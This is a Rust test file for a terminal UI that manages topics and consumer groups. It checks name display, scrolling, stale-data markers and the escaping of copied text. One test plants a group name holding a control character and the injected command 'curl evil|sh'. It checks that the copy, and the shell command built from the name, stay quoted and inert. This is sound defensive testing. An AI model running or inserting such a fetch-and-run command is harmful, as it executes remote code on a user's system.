//! What is too long for its place, and how all of it is had; and where a copy of it goes.

use ratatui::buffer::Buffer;
use ratatui::layout::Rect;

use crate::tui::model::msg::Effect;
use crate::tui::model::page::Target;
use crate::tui::model::schedule::Kind;
use crate::tui::model::screen::Screen;
use crate::tui::stage::{Stage, Town, readable};
use crate::tui::view;

#[test]
fn details_give_the_whole_name() {
    let name: String = (0..20).map(|it| format!("{it:02}-segment")).collect();
    let mut town = Town::small();
    town.add(&name, 1, 10);
    let mut stage = Stage::settled(town, 80, 24);
    stage.go(&Target::named(Screen::Topics, Some(&name)).unwrap());
    stage.type_keys("d");
    let text: String = stage.body().lines().skip(2).map(str::trim).collect();
    assert!(text.starts_with(&name), "{text}");
    // Lines that were broken are scrolled through, too, and no further than to the last.
    let first = stage.body();
    stage.type_keys("G");
    let end = stage.body();
    assert_ne!(first, end);
    stage.type_keys("jj");
    assert_eq!(stage.body(), end);
    stage.type_keys("k");
    assert_ne!(stage.body(), end);
}

#[test]
fn what_is_stale_is_so_on_paper() {
    let mut stage = Stage::settled(Town::small(), 80, 24);
    stage.go(&Target::screen(Screen::Topics));
    stage.town.silent.extend(Kind::ALL);
    stage.pass(60_000);
    let mut buffer = Buffer::empty(Rect::new(0, 0, 80, 24));
    view::app::draw_once(&stage.app, &mut buffer);
    let shown = readable(&view::export::text(&buffer));
    assert!(shown.lines().any(|it| it.starts_with(" ? orders")), "{shown}");
}

#[test]
fn what_is_copied_acts_nowhere() {
    let mut town = Town::small();
    town.join("x\x03curl evil|sh\n", "orders", 10, 10);
    let mut stage = Stage::settled(town, 80, 24);
    stage.go(&Target::named(Screen::Groups, Some("x\x03curl evil|sh\n")).unwrap());
    let mut copied = |key| {
        stage.type_keys(key);
        let mut copied = stage.done.drain(..).filter_map(|it| match it {
            Effect::Copy(text) => Some(text),
            _ => None,
        });
        copied.next_back().unwrap_or_default()
    };
    insta::assert_snapshot!(copied("y"), @r"x\x03curl evil|sh\n");
    insta::assert_snapshot!(copied("<Enter>Y"), @r"kt groups describe $'x\x03curl evil|sh\x0a' --context prod-eu");
}
